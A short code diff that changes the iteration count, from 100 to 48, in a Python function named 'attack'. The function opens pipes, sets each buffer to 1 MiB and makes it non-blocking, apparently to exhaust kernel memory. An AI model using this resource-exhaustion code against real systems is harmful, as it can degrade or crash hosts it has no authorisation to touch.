@@ -12,7 +12,7 @@ F_SETPIPE_SZ = 1031
 
 def attack(target: Target) -> bytes:
     n_bytes = 0
-    for _ in range(100):
+    for _ in range(48):
         _, writer = os.pipe()
         fcntl.fcntl(writer, F_SETPIPE_SZ, 2**20)
         os.set_blocking(writer, False)
